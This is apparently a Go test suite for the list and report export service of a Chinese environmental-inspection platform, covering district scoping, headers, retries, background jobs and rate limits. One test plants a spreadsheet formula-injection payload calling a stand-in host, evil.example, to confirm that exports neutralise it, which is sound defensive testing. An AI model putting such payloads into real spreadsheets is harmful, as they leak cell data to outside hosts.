package exchange_test

import (
	"archive/zip"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"entgo.io/ent/privacy"
	"github.com/xuri/excelize/v2"

	"greencheck/api/apperr"
	"greencheck/api/db/dbtest"
	"greencheck/api/demo"
	"greencheck/api/events"
	"greencheck/api/exchange"
	"greencheck/api/lifecycle"
	"greencheck/api/notify"
	"greencheck/api/partner"
	"greencheck/api/report"
	"greencheck/api/uscc"
	"greencheck/api/visit"
	"greencheck/ent"
	"greencheck/ent/auditentry"
	"greencheck/ent/district"
	"greencheck/ent/enterprise"
	"greencheck/ent/exportjob"
	"greencheck/ent/finding"
	"greencheck/ent/inspectiontask"
	"greencheck/ent/notification"
	"greencheck/ent/selfcheck"
	"greencheck/ent/user"
)

var sys = privacy.DecisionContext(context.Background(), privacy.Allow)

func newService(t testing.TB, c *ent.Client) (*exchange.Service, events.Bus) {
	t.Helper()
	bus := events.NewLocal()
	s, err := exchange.New(c, notify.New(c, bus), bus, report.New(c), partner.New(c), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Wait) // before the database closes
	return s, bus
}

// sheetRows opens an export's file as its owner and returns its rows.
func sheetRows(t *testing.T, s *exchange.Service, ctx context.Context, job *ent.ExportJob) [][]string {
	t.Helper()
	d, err := s.Open(ctx, job.ID)
	if err != nil {
		t.Fatalf("open export %d: %v", job.ID, err)
	}
	if job.Format == exportjob.FormatCSV {
		raw, err := os.ReadFile(d.Path)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(string(raw), "\ufeff") {
			t.Error("the CSV has no byte-order mark")
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	book, err := excelize.OpenFile(d.Path)
	if err != nil {
		t.Fatalf("not a workbook: %v", err)
	}
	defer book.Close()
	rows, err := book.GetRows(book.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func col(header []string, name string) int {
	for i, h := range header {
		if h == name {
			return i
		}
	}
	return -1
}

// TestExportLists: a list exports with its filters in the viewer's scope —
// furong's findings are 芙蓉区's, as the list shows them — with Chinese
// headers and dictionary labels (English when asked), as XLSX and CSV; a
// cell that would be a formula is text; a retried request (client key)
// starts nothing new; one export names exactly one list; nobody else
// reads an export; a report exports its rows.
func TestExportLists(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, dia string) {
		d := dbtest.Open(t, dia)
		c := d.Client
		if err := demo.Load(context.Background(), c, time.Now()); err != nil {
			t.Fatal(err)
		}
		s, _ := newService(t, c)
		s.SyncRows = 100_000 // every export here within the request (the demo city has 10,434 notices)
		admin, furong := dbtest.As(c, "admin"), dbtest.As(c, "furong")
		fr := c.District.Query().Where(district.NameZh("芙蓉区")).OnlyX(sys)

		// The enterprises of 芙蓉区, by name, as the list filters them.
		where := &ent.EnterpriseWhereInput{DistrictID: &fr.ID}
		job, err := s.ExportList(admin, exchange.ListInput{Enterprises: &exchange.EnterprisesInput{Where: where,
			OrderBy: &ent.EnterpriseOrder{Field: ent.EnterpriseOrderFieldName, Direction: "ASC"}}})
		if err != nil {
			t.Fatal(err)
		}
		want := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).CountX(admin)
		if job.Status != exportjob.StatusDONE || job.Rows != want || job.Total != want || job.Progress != 100 || exchange.URL(job) == "" {
			t.Fatalf("export: %+v, want %d rows DONE", job, want)
		}
		// Column widths in column order (Excel offers to repair the file
		// otherwise).
		dl0, _ := s.Open(admin, job.ID)
		zr, err := zip.OpenReader(dl0.Path)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range zr.File {
			if f.Name != "xl/worksheets/sheet1.xml" {
				continue
			}
			rc, _ := f.Open()
			xml, _ := io.ReadAll(rc)
			rc.Close()
			last := 0
			for _, m := range regexp.MustCompile(`<col min="(\d+)"`).FindAllStringSubmatch(string(xml), -1) {
				n, _ := strconv.Atoi(m[1])
				if n <= last {
					t.Errorf("column widths out of order: %s", regexp.MustCompile(`<cols>.*</cols>`).FindString(string(xml)))
					break
				}
				last = n
			}
		}
		zr.Close()
		rows := sheetRows(t, s, admin, job)
		if len(rows) != want+1 || rows[0][0] != "企业名称" || rows[0][1] != "统一社会信用代码" {
			t.Fatalf("%d rows, header %v", len(rows), rows[0])
		}
		tier, dist := col(rows[0], "排污许可管理类别"), col(rows[0], "区县")
		labels := map[string]bool{"重点管理": true, "简化管理": true, "登记管理": true, "无需许可": true}
		open, overdue := col(rows[0], "未整改问题"), col(rows[0], "逾期问题")
		sumOpen, sumOverdue := 0, 0
		for _, r := range rows[1:] {
			if r[dist] != "芙蓉区" || !labels[r[tier]] {
				t.Fatalf("row %v: district or tier label", r)
			}
			o, _ := strconv.Atoi(r[open])
			od, _ := strconv.Atoi(r[overdue])
			sumOpen += o
			sumOverdue += od
		}
		// The open and overdue findings the list shows, per enterprise.
		inFurong := finding.HasEnterpriseWith(enterprise.DistrictID(fr.ID))
		wantOpen := c.Finding.Query().Where(inFurong, finding.StatusIn(lifecycle.As[finding.Status](lifecycle.OpenStatuses)...)).CountX(admin)
		wantOverdue := c.Finding.Query().Where(inFurong, finding.StatusIn(lifecycle.As[finding.Status](lifecycle.OpenStatuses)...), finding.Overdue(true)).CountX(admin)
		if sumOpen != wantOpen || sumOverdue != wantOverdue || wantOpen == 0 {
			t.Errorf("open %d overdue %d, want %d and %d", sumOpen, sumOverdue, wantOpen, wantOverdue)
		}
		for i := 2; i < len(rows); i++ {
			if rows[i-1][0] > rows[i][0] && !strings.HasPrefix(rows[i][0], rows[i-1][0]) {
				// ordering is the database's collation; just check it is the list's order
				names := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).Order(ent.Asc(enterprise.FieldName), ent.Asc(enterprise.FieldID)).
					Select(enterprise.FieldName).StringsX(admin)
				if names[i-1] != rows[i][0] {
					t.Fatalf("row %d is %q, the list's is %q", i, rows[i][0], names[i-1])
				}
			}
		}

		// furong's findings are 芙蓉区's only, as many as furong's list counts.
		fj, err := s.ExportList(furong, exchange.ListInput{Format: exportjob.FormatCSV, Findings: &exchange.FindingsInput{}})
		if err != nil {
			t.Fatal(err)
		}
		if n, all := c.Finding.Query().CountX(furong), c.Finding.Query().CountX(admin); fj.Rows != n || n == 0 || n >= all {
			t.Fatalf("furong's ledger has %d rows; furong reads %d of %d", fj.Rows, n, all)
		}
		frows := sheetRows(t, s, furong, fj)
		dc, sc := col(frows[0], "区县"), col(frows[0], "状态")
		statuses := map[string]bool{"发现": true, "交办": true, "整改中": true, "待核查": true, "核查通过": true, "退回": true, "已销号": true, "无效": true}
		for _, r := range frows[1:] {
			if r[dc] != "芙蓉区" || !statuses[r[sc]] {
				t.Fatalf("furong's ledger row %v", r)
			}
		}
		// Not anyone else's to read or follow.
		if _, err := s.Open(furong, job.ID); !ent.IsNotFound(err) {
			t.Errorf("furong opened the city's export: %v", err)
		}
		if _, err := s.Subscribe(furong, job.ID); !ent.IsNotFound(err) {
			t.Errorf("furong followed the city's export: %v", err)
		}
		if n := c.ExportJob.Query().CountX(furong); n != 1 {
			t.Errorf("furong lists %d exports, has 1", n)
		}
		// furong's users: an enterprise's user's district is its enterprise's.
		uj, err := s.ExportList(furong, exchange.ListInput{Users: &exchange.UsersInput{Where: &ent.UserWhereInput{Username: ptr("qiye")}}})
		if err != nil {
			t.Fatal(err)
		}
		if urows := sheetRows(t, s, furong, uj); len(urows) != 2 || urows[1][col(urows[0], "所属区县")] != "芙蓉区" {
			t.Fatalf("qiye's row: %v", urows)
		}

		// A name a spreadsheet would compute stays text: XLSX as a string
		// cell (no formula), CSV with an apostrophe.
		evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
		e := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).FirstX(sys)
		c.Enterprise.UpdateOne(e).SetName(evil).ExecX(sys)
		code := "91430102MA4PX0001"
		check, _ := uscc.CheckChar(code)
		c.Enterprise.Create().SetName("@SUM(1+1)").SetCreditCode(code + string(check)).SetDistrictID(fr.ID).
			SetIndustryCode(e.IndustryCode).SetIndustryName(e.IndustryName).SetPermitTier(e.PermitTier).ExecX(sys)
		one := &ent.EnterpriseWhereInput{Or: []*ent.EnterpriseWhereInput{{ID: &e.ID}, {NameHasPrefix: ptr("@SUM")}}}
		x, err := s.ExportList(admin, exchange.ListInput{Enterprises: &exchange.EnterprisesInput{Where: one}})
		if err != nil {
			t.Fatal(err)
		}
		dl, _ := s.Open(admin, x.ID)
		book, err := excelize.OpenFile(dl.Path)
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range []string{"A2", "A3"} {
			v, _ := book.GetCellValue(book.GetSheetName(0), cell)
			f, _ := book.GetCellFormula(book.GetSheetName(0), cell)
			if f != "" || (v != evil && v != "@SUM(1+1)") {
				t.Errorf("XLSX %s: value %q formula %q", cell, v, f)
			}
		}
		book.Close()
		cj, err := s.ExportList(admin, exchange.ListInput{Format: exportjob.FormatCSV, Enterprises: &exchange.EnterprisesInput{Where: one}})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range sheetRows(t, s, admin, cj)[1:] {
			if r[0] != "'"+evil && r[0] != "'@SUM(1+1)" {
				t.Errorf("CSV cell %q is not neutralized", r[0])
			}
		}

		// English headers and labels when the caller reads English.
		en := apperr.WithLang(admin, "en")
		ej, err := s.ExportList(en, exchange.ListInput{Enterprises: &exchange.EnterprisesInput{Where: where}})
		if err != nil {
			t.Fatal(err)
		}
		erows := sheetRows(t, s, admin, ej)
		if erows[0][0] != "Name" || erows[1][col(erows[0], "District")] != fr.NameEn || !strings.HasPrefix(ej.FileName, "Enterprises-") {
			t.Errorf("English export: %v / %v, %s", erows[0], erows[1], ej.FileName)
		}

		// A CSV field is always quoted: a separator of another locale (;)
		// cannot start a formula.
		semi := c.Enterprise.Query().Where(enterprise.DistrictID(fr.ID)).Offset(1).FirstX(sys)
		c.Enterprise.UpdateOne(semi).SetName("x;=1+1").ExecX(sys)
		sj, err := s.ExportList(admin, exchange.ListInput{Format: exportjob.FormatCSV, Enterprises: &exchange.EnterprisesInput{Where: &ent.EnterpriseWhereInput{ID: &semi.ID}}})
		if err != nil {
			t.Fatal(err)
		}
		sd, _ := s.Open(admin, sj.ID)
		raw, _ := os.ReadFile(sd.Path)
		if !strings.Contains(string(raw), "\r\n\"x;=1+1\",\"") {
			t.Errorf("CSV line: %q", raw)
		}
		// Every export is in the audit trail.
		if n := c.AuditEntry.Query().Where(auditentry.Action("export.start"), auditentry.SubjectID(sj.ID)).CountX(sys); n != 1 {
			t.Errorf("export audited %d times", n)
		}

		// A retried request returns the export it started — its key as
		// stored (trimmed, NFC) — and the same key for another request is
		// refused.
		key := "phone-retry-1"
		a, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Users: &exchange.UsersInput{}})
		if err != nil {
			t.Fatal(err)
		}
		b, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Users: &exchange.UsersInput{}})
		if err != nil || b.ID != a.ID {
			t.Errorf("retry started another export: %v %v", b, err)
		}
		spaced := " phone-retry-1 "
		if b, err := s.ExportList(admin, exchange.ListInput{ClientKey: &spaced, Users: &exchange.UsersInput{}}); err != nil || b.ID != a.ID {
			t.Errorf("retry with spaces started another export: %v %v", b, err)
		}
		if _, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Visits: &exchange.VisitsInput{}}); apperr.CodeOf(err) != apperr.Conflict {
			t.Errorf("key reused for another list: %v", err)
		}
		active := true
		if _, err := s.ExportList(admin, exchange.ListInput{ClientKey: &key, Users: &exchange.UsersInput{Where: &ent.UserWhereInput{Active: &active}}}); apperr.CodeOf(err) != apperr.Conflict {
			t.Errorf("key reused for other filters: %v", err)
		}
		blank := "  "
		if _, err := s.ExportList(admin, exchange.ListInput{ClientKey: &blank, Users: &exchange.UsersInput{}}); apperr.CodeOf(err) != apperr.BadUserInput {
			t.Errorf("a blank key: %v", err)
		}
		// A request cancelled while its export is written leaves it FAILED,
		// not running (the user may export again at once).
		s.PageSize = 1 // slow: a statement a row
		cctx, cancelSoon := context.WithTimeout(admin, 300*time.Millisecond)
		cx, err := s.ExportList(cctx, exchange.ListInput{Users: &exchange.UsersInput{}})
		cancelSoon()
		s.PageSize = exchange.PageSize
		if err != nil || cx.Status != exportjob.StatusFAILED || cx.Failure != "export.interrupted" {
			t.Errorf("a cancelled export ended %+v %v", cx, err)
		}
		if n := c.ExportJob.Query().Where(exportjob.StatusEQ(exportjob.StatusRUNNING)).CountX(sys); n != 0 {
			t.Errorf("%d exports left running", n)
		}
		// Exactly one list.
		for _, in := range []exchange.ListInput{{}, {Users: &exchange.UsersInput{}, Visits: &exchange.VisitsInput{}}} {
			_, err := s.ExportList(admin, in)
			if e, ok := apperr.As(err); !ok || e.Code != apperr.BadUserInput || e.Key != "export.one_list" {
				t.Errorf("lists %+v: %v", in, err)
			}
		}
		// Every list exports, its rows those the viewer reads.
		for name, in := range map[string]exchange.ListInput{
			"tasks": {Tasks: &exchange.TasksInput{}}, "warnings": {Warnings: &exchange.WarningsInput{}},
			"notices": {Notices: &exchange.NoticesInput{}}, "questions": {Questions: &exchange.QuestionsInput{}},
			"trainings": {Trainings: &exchange.TrainingsInput{}}, "visits": {Visits: &exchange.VisitsInput{}},
			"apiKeys": {APIKeys: &exchange.APIKeysInput{}}, "problems": {Problems: &exchange.ProblemsInput{}},
		} {
			j, err := s.ExportList(admin, in)
			if err != nil || j.Status != exportjob.StatusDONE {
				t.Fatalf("%s: %+v %v", name, j, err)
			}
			if rows := sheetRows(t, s, admin, j); len(rows) != j.Rows+1 || len(rows[0]) < 5 {
				t.Errorf("%s: %d rows for %d, header %v", name, len(rows), j.Rows, rows[0])
			}
		}
		// A task's enterprises, as the list counts them: the self-checks the
		// viewer reads (芙蓉区's own for its administrator).
		for _, who := range []context.Context{admin, furong} {
			tj, err := s.ExportList(who, exchange.ListInput{Tasks: &exchange.TasksInput{}})
			if err != nil {
				t.Fatal(err)
			}
			trows := sheetRows(t, s, who, tj)
			col := slices.Index(trows[0], "企业数")
			if col < 0 || len(trows) < 2 {
				t.Fatalf("tasks: %v", trows)
			}
			for _, r := range trows[1:] {
				task := c.InspectionTask.Query().Where(inspectiontask.Title(r[0])).FirstX(who)
				if want := strconv.Itoa(c.SelfCheck.Query().Where(selfcheck.TaskID(task.ID)).CountX(who)); r[col] != want || want == "0" {
					t.Errorf("task %q: %s enterprises, want %s", r[0], r[col], want)
				}
			}
		}
		// 帮扶清单: the list as problemList pages it, in the viewer's scope,
		// filtered by reason; each reason's records in its own column.
		problems := visit.New(c, notify.New(c, events.NewLocal()))
		for _, who := range []context.Context{admin, furong} {
			for _, reason := range []*visit.Reason{nil, ptr(visit.OverdueFindings)} {
				list, err := problems.Problems(who, visit.ListInput{Reason: reason, First: visit.MaxProblemPage})
				if err != nil {
					t.Fatal(err)
				}
				pj, err := s.ExportList(who, exchange.ListInput{Problems: &exchange.ProblemsInput{Reason: reason}})
				if err != nil || pj.List != exportjob.ListPROBLEMS {
					t.Fatal(pj, err)
				}
				prows := sheetRows(t, s, who, pj)
				if list.TotalCount == 0 || len(prows) != list.TotalCount+1 || pj.Rows != list.TotalCount {
					t.Fatalf("problems (%v): %d rows, the list %d", reason, len(prows)-1, list.TotalCount)
				}
				overdue := slices.Index(prows[0], "问题逾期未整改")
				for i, e := range list.Entries {
					r := prows[i+1]
					want := ""
					for _, rc := range e.Reasons {
						if rc.Reason == visit.OverdueFindings {
							want = strconv.Itoa(rc.Count)
						}
					}
					if r[0] != e.Enterprise.Name || r[2] == "" || r[3] != strconv.Itoa(len(e.Reasons)) || overdue < 0 || r[overdue] != want {
						t.Errorf("problems row %d: %v, entry %s %+v", i, r, e.Enterprise.Name, e.Reasons)
					}
				}
			}
		}
		if j, _ := s.ExportList(admin, exchange.ListInput{Notices: &exchange.NoticesInput{}}); j.Rows != c.WarningNotice.Query().CountX(admin) || j.Rows == 0 {
			t.Errorf("notices: %d rows", j.Rows)
		}
		// The keys are the city's: an enterprise is refused as its list is.
		if qj, err := s.ExportList(dbtest.As(c, "qiye"), exchange.ListInput{APIKeys: &exchange.APIKeysInput{}}); !errors.Is(err, privacy.Deny) {
			t.Errorf("qiye exported %v keys: %v", qj, err)
		}

		// No N+1: statements grow with pages, not rows — a page of findings
		// costs the same few statements (rows, their enterprises, their
		// districts, the page's count) whatever its size.
		statements := func(page int) int64 {
			s.PageSize = page
			defer func() { s.PageSize = exchange.PageSize }()
			d.Counter.Reset()
			j, err := s.ExportList(admin, exchange.ListInput{Findings: &exchange.FindingsInput{}})
			if err != nil || j.Status != exportjob.StatusDONE {
				t.Fatalf("%+v %v", j, err)
			}
			return d.Counter.Count()
		}
		findings := c.Finding.Query().CountX(admin)
		small, large := statements(500), statements(5_000)
		pagesSmall := int64((findings + 499) / 500)
		if small > 6*pagesSmall+20 || large > 6+20 {
			t.Errorf("%d findings: %d statements in pages of 500 (%d pages), %d in one page", findings, small, pagesSmall, large)
		}
		t.Logf("%d findings: %d statements in %d pages of 500, %d in one page of 5,000", findings, small, pagesSmall, large)

		// A report's rows, dimensions labelled.
		rj, err := s.ExportReport(furong, report.Input{Measures: []string{"FINDINGS", "RECTIFICATION_RATE"}, Dimensions: []string{"SEVERITY"}}, exportjob.FormatXLSX, nil, "")
		if err != nil {
			t.Fatal(err)
		}
		rrows := sheetRows(t, s, furong, rj)
		if len(rrows) < 2 || rrows[0][0] != "严重程度" || rj.List != exportjob.ListREPORT || !strings.HasSuffix(rrows[0][2], "（%）") {
			t.Errorf("report export: %v", rrows)
		}
		// Rates as the builder shows them: percent, to 0.1.
		for _, r := range rrows[1:] {
			if v, err := strconv.ParseFloat(r[2], 64); r[2] != "" && (err != nil || v < 0 || v > 100 || v*10 != math.Round(v*10)) {
				t.Errorf("a rate cell %q", r[2])
			}
		}
		// By quarter, each beside the one before: headed and dated as the builder shows them.
		q, cmp := "QUARTER", "PRECEDING_PERIOD"
		qj, err := s.ExportReport(furong, report.Input{Measures: []string{"FINDINGS"},
			TimeDimension: &report.TimeInput{Field: "FOUND_AT", Granularity: &q, From: "2025-01-01", To: "2025-12-31"}, CompareTo: &cmp}, exportjob.FormatXLSX, nil, "")
		if err != nil {
			t.Fatal(err)
		}
		qrows := sheetRows(t, s, furong, qj)
		if want := "[[周期 发现问题 发现问题（对比期） 发现问题（变化）] [2025-Q1"; len(qrows) != 5 || !strings.HasPrefix(fmt.Sprint(qrows), want) || qrows[4][0] != "2025-Q4" {
			t.Errorf("quarterly export %v, want it to begin %s", qrows, want)
		}
		// What the report counts, on the workbook's 说明 sheet: filters labelled
		// (a district by its name, through a report in the viewer's scope; a severity by its label).
		fj2, err := s.ExportReport(furong, report.Input{Measures: []string{"FINDINGS", "CLOSED_FINDINGS"}, Dimensions: []string{"SEVERITY"},
			TimeDimension: &report.TimeInput{Field: "FOUND_AT", From: "2025-01-01", To: "2025-12-31"},
			Filters:       []report.FilterInput{{Dimension: "DISTRICT", Values: []string{strconv.Itoa(fr.ID)}}, {Dimension: "SEVERITY", Values: []string{"HIGH", "LOW"}}}}, exportjob.FormatXLSX, nil, "")
		if err != nil {
			t.Fatal(err)
		}
		if d, err := s.Open(furong, fj2.ID); err == nil {
			book, err := excelize.OpenFile(d.Path)
			if err != nil {
				t.Fatal(err)
			}
			about, err := book.GetRows("说明")
			book.Close()
			want := "[[指标 发现问题、已销号] [分组维度 严重程度] [时间 发现时间：2025-01-01 至 2025-12-31] [筛选 区县：芙蓉区] [筛选 严重程度：严重、轻微]]"
			if err != nil || fmt.Sprint(about) != want {
				t.Errorf("说明 %v %v, want %s", about, err, want)
			}
		} else {
			t.Fatal(err)
		}
		// A saved report's name titles the file and its sheet (a file name's forbidden characters read _);
		// a name longer than a saved report's is refused at name.
		nj, err := s.ExportReport(furong, report.Input{Measures: []string{"FINDINGS"}}, exportjob.FormatXLSX, nil, " 各区/月度整改 ")
		if err != nil || !regexp.MustCompile(`^各区_月度整改-\d{8}-\d{6}\.xlsx$`).MatchString(nj.FileName) {
			t.Errorf("a named report's file %q (%v)", nj.FileName, err)
		}
		if _, err := s.ExportReport(furong, report.Input{Measures: []string{"FINDINGS"}}, exportjob.FormatXLSX, nil, strings.Repeat("名", 200)); func() bool { e, ok := apperr.As(err); return !ok || e.Field != "name" }() {
			t.Errorf("a name too long: %v", err)
		}
		// Each column as wide as its header: 发现问题（对比期） whole, not cut at Excel's default.
		if d, err := s.Open(furong, qj.ID); err == nil {
			book, err := excelize.OpenFile(d.Path)
			if err != nil {
				t.Fatal(err)
			}
			if w, err := book.GetColWidth(book.GetSheetName(0), "C"); err != nil || w < 20 {
				t.Errorf("the 对比期 column is %v wide (%v)", w, err)
			}
			book.Close()
		}
	})
}

// TestExportInTheBackground: beyond SyncRows an export runs after the
// request, its progress published and recorded, its owner notified with a
// link; a user has one running export at a time; the sweep removes
// expired exports with their files and fails those that stopped.
func TestExportInTheBackground(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, dia string) {
		d := dbtest.Open(t, dia)
		c := d.Client
		if err := demo.Load(context.Background(), c, time.Now()); err != nil {
			t.Fatal(err)
		}
		s, bus := newService(t, c)
		s.SyncRows, s.PageSize = 20, 25
		admin, furong := dbtest.As(c, "admin"), dbtest.As(c, "furong")
		total := c.Finding.Query().CountX(admin)
		if total < 200 {
			t.Fatalf("the demo city has %d findings", total)
		}
		// Watch every export's topic: the job's id is known only after.
		ctx, cancel := context.WithCancel(admin)
		defer cancel()
		job, err := s.ExportList(admin, exchange.ListInput{Findings: &exchange.FindingsInput{}})
		if err != nil {
			t.Fatal(err)
		}
		if job.Status != exportjob.StatusRUNNING || job.Total != total {
			t.Fatalf("a large export came back %+v", job)
		}
		updates, err := s.Subscribe(ctx, job.ID)
		if err != nil {
			t.Fatal(err)
		}
		_ = bus
		var seen []int
		var last *ent.ExportJob
		timeout := time.After(2 * time.Minute)
	follow:
		for {
			select {
			case j, ok := <-updates:
				if !ok {
					break follow
				}
				seen, last = append(seen, j.Progress), j
			case <-timeout:
				t.Fatal("the export did not end")
			}
		}
		s.Wait()
		if last == nil || last.Status != exportjob.StatusDONE || last.Rows != total || last.Progress != 100 {
			t.Fatalf("ended as %+v", last)
		}
		for i := 1; i < len(seen); i++ {
			if seen[i] < seen[i-1] {
				t.Errorf("progress went back: %v", seen)
			}
		}
		if len(seen) < 3 {
			t.Errorf("progress seen: %v", seen)
		}
		if rows := sheetRows(t, s, admin, last); len(rows) != total+1 {
			t.Errorf("%d rows in the file, %d findings", len(rows)-1, total)
		}
		n, err := c.Notification.Query().Where(notification.Kind("EXPORT_DONE"), notification.Link("/exports")).Count(admin)
		if err != nil || n != 1 {
			t.Errorf("notifications of the export: %d %v", n, err)
		}

		// One running export per user.
		fu := c.User.Query().Where(user.Username("furong")).OnlyX(sys)
		running := c.ExportJob.Create().SetUserID(fu.ID).SetList(exportjob.ListFINDINGS).SetBackground(true).
			SetExpiresAt(time.Now().Add(time.Hour)).SaveX(sys)
		_, err = s.ExportList(furong, exchange.ListInput{Users: &exchange.UsersInput{}})
		if c.User.Query().CountX(furong) > s.SyncRows { // a background one too
			if e, ok := apperr.As(err); !ok || e.Code != apperr.Conflict || e.Key != "export.running" {
				t.Errorf("a second background export: %v", err)
			}
		}
		_, err = s.ExportList(furong, exchange.ListInput{Findings: &exchange.FindingsInput{}})
		if e, ok := apperr.As(err); !ok || e.Code != apperr.Conflict || e.Key != "export.running" {
			t.Errorf("a second background export: %v", err)
		}
		// A small one is written meanwhile.
		one := 1
		if small, err := s.ExportList(furong, exchange.ListInput{Tasks: &exchange.TasksInput{Where: &ent.InspectionTaskWhereInput{IDGT: &one}}}); err != nil ||
			small.Status != exportjob.StatusDONE || small.Total > s.SyncRows {
			t.Errorf("a small export beside a background one: %+v %v", small, err)
		}
		if _, err := s.Open(furong, running.ID); err != exchange.ErrNotReady {
			t.Errorf("a running export opened: %v", err)
		}

		// The sweep: a running export that stopped progressing fails; an
		// expired one goes with its file.
		c.ExportJob.UpdateOne(running).SetUpdatedAt(time.Now().Add(-exchange.StaleAfter - time.Minute)).ExecX(sys)
		dl, _ := s.Open(admin, last.ID)
		c.ExportJob.UpdateOneID(last.ID).SetExpiresAt(time.Now().Add(-time.Second)).ExecX(sys)
		if _, err := s.Open(admin, last.ID); err != exchange.ErrGone {
			t.Errorf("an expired export opened: %v", err)
		}
		removed, err := s.Sweep(context.Background())
		if err != nil || removed != 1 {
			t.Fatalf("sweep removed %d: %v", removed, err)
		}
		if _, err := os.Stat(dl.Path); !os.IsNotExist(err) {
			t.Errorf("the expired file stays: %v", err)
		}
		if j := c.ExportJob.GetX(sys, running.ID); j.Status != exportjob.StatusFAILED || exchange.Failure(j, "zh") == "" {
			t.Errorf("the stopped export is %s %q", j.Status, j.Failure)
		}
		// The sweep tells a follower of the stopped export.
		// (Its subscription ended with the FAILED state it read.)
		// furong may export again now.
		if _, err := s.ExportList(furong, exchange.ListInput{Users: &exchange.UsersInput{}}); err != nil {
			t.Errorf("after the sweep: %v", err)
		}
		s.Wait()

		// A background export stops when its owner is deactivated.
		s.SyncRows, s.PageSize = 20, 10
		yu := c.User.Query().Where(user.Username("yuelu")).OnlyX(sys)
		yuelu := dbtest.As(c, "yuelu")
		yj, err := s.ExportList(yuelu, exchange.ListInput{Findings: &exchange.FindingsInput{}})
		if err != nil || yj.Status != exportjob.StatusRUNNING {
			t.Fatalf("yuelu's export: %+v %v", yj, err)
		}
		c.User.UpdateOne(yu).SetActive(false).ExecX(sys)
		s.Wait()
		if j := c.ExportJob.GetX(sys, yj.ID); j.Status != exportjob.StatusFAILED || j.Failure != "export.revoked" {
			t.Errorf("a deactivated user's export ended %s %q", j.Status, j.Failure)
		}

		// At most MaxPerDay exports a day.
		for i := c.ExportJob.Query().Where(exportjob.UserID(fu.ID)).CountX(sys); i < exchange.MaxPerDay; i++ {
			c.ExportJob.Create().SetUserID(fu.ID).SetList(exportjob.ListUSERS).SetStatus(exportjob.StatusDONE).
				SetExpiresAt(time.Now().Add(time.Hour)).ExecX(sys)
		}
		if _, err := s.ExportList(furong, exchange.ListInput{Users: &exchange.UsersInput{}}); apperr.CodeOf(err) != apperr.RateLimited {
			t.Errorf("export %d of the day: %v", exchange.MaxPerDay+1, err)
		}
	})
}

func ptr[T any](v T) *T { return &v }
